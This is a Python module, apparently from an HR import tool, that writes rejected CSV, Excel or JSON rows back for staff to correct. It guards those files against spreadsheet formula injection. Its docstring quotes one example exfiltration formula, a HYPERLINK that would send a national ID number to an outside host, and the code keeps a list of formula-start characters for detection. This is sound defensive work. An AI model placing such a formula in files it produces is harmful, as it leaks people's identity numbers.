"""A file with only the rejected rows, in the original's format, encoding and columns:
HR staff fix it and drop it into the inbox again, without touching the rows that went in.

The file goes back to a person who opens it in Excel, so it must be inert: a cell starting
with `=`, `+`, `-`, `@`, tab or carriage return is what a spreadsheet takes for a formula
(formula injection: `=HYPERLINK("http://…?"&E2)` would send the fødselsnummer in E2 away).
In a workbook such cells are written as text cells, never formulas; a CSV keeps the original
bytes of every row (nothing is re-quoted or re-encoded); and the cells are listed so the
error list can warn about them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import ijson
from openpyxl import Workbook, load_workbook

from ..reading.csv_reader import detect_delimiter, detect_encoding
from ..reading.json_reader import records_prefix
from ..common.workspace import atomic_write_bytes
from ..domain.texts import N_


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def write_rejected_rows(source: Path, rows: set[int], target: Path) -> list[str]:
    """Write the records of `source` at `rows` (line, row or post numbers as the readers
    count them) to `target`, in the same format. Returns where cells look like formulas
    («linje 3, kolonne «Navn»», as `texts.Message`s), for the error list."""
    kind = source.suffix.lower()
    formulas: list[str] = []
    if kind in (".csv", ".txt"):
        data = _csv(source, rows, formulas)
    elif kind in (".xlsx", ".xlsm"):
        data = _xlsx(source, rows, formulas)
    elif kind == ".json":
        data = _json(source, rows)
    else:
        raise ValueError(f"unsupported type {kind}")
    atomic_write_bytes(target, data)
    return formulas


def _header_name(headers: list[Any], column: int) -> str:
    header = headers[column] if column < len(headers) else None
    return str(header).strip() if header not in (None, "") else N_("nr. {nummer}", nummer=column + 1)


def _csv(source: Path, rows: set[int], formulas: list[str]) -> bytes:
    """Counted exactly as the CSV reader counts: a record's number is the line it starts on.
    Each kept record is its original text, line endings and quoting included."""
    encoding = detect_encoding(source)
    out = io.StringIO(newline="")
    with source.open("r", encoding=encoding, newline="") as handle:
        first = next((line for line in handle if line.strip()), "")
        handle.seek(0)
        delimiter = detect_delimiter(first)
        taken: list[str] = []  # the lines the reader consumed for the current record

        def lines() -> Iterator[str]:
            for line in handle:
                taken.append(line)
                yield line

        reader = csv.reader(lines(), delimiter=delimiter)
        headers: list[str] | None = None
        last = 0
        for values in reader:
            start, last = last + 1, reader.line_num
            text, taken[:] = "".join(taken), []
            if not "".join(values).strip():
                continue
            if headers is None:
                headers = values
                out.write(text)
            elif start in rows:
                out.write(text)
                formulas.extend(N_("linje {linje}, kolonne «{kolonne}»", linje=start, kolonne=_header_name(headers, i))
                                for i, v in enumerate(values) if looks_like_formula(v))
    return out.getvalue().encode(encoding)


def _xlsx(source: Path, rows: set[int], formulas: list[str]) -> bytes:
    """The first sheet's header row and the rejected rows, with their values and number formats;
    every text cell a text cell (data type «s»), whatever it starts with."""
    original = load_workbook(source, read_only=True, data_only=True)
    try:
        sheet = original.worksheets[0]
        sheet.reset_dimensions()
        book = Workbook()
        out = book.active
        out.title = sheet.title
        headers: list[Any] | None = None
        for number, cells in enumerate(sheet.iter_rows(), start=1):
            values = [getattr(c, "value", None) for c in cells]
            blank = all(v is None or (isinstance(v, str) and not v.strip()) for v in values)
            if blank:
                continue
            if headers is not None and number not in rows:
                continue
            target_row = out.max_row + 1 if out.max_row > 1 or out.cell(1, 1).value is not None else 1
            for column, cell in enumerate(cells, start=1):
                value = getattr(cell, "value", None)
                if value is None:
                    continue
                written = out.cell(target_row, column, value)
                if isinstance(value, str):
                    written.data_type = "s"  # openpyxl makes «=…» a formula: never in a file sent back
                    if headers is not None and looks_like_formula(value):
                        formulas.append(N_("rad {rad}, kolonne «{kolonne}»", rad=number,
                                           kolonne=_header_name(headers, column - 1)))
                written.number_format = getattr(cell, "number_format", "General")
            if headers is None:
                headers = values
    finally:
        original.close()
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _json(source: Path, rows: set[int]) -> bytes:
    prefix = records_prefix(source)
    with source.open("rb") as handle:
        kept: list[Any] = [obj for index, obj in enumerate(ijson.items(handle, prefix, use_float=True), start=1)
                           if index in rows]
    if prefix == "":
        document: Any = kept[0] if kept else {}
    elif prefix == "item":
        document = kept
    else:
        document = {"praksisplasser": kept}
    return (json.dumps(document, ensure_ascii=False, indent=2) + "\n").encode("utf-8")
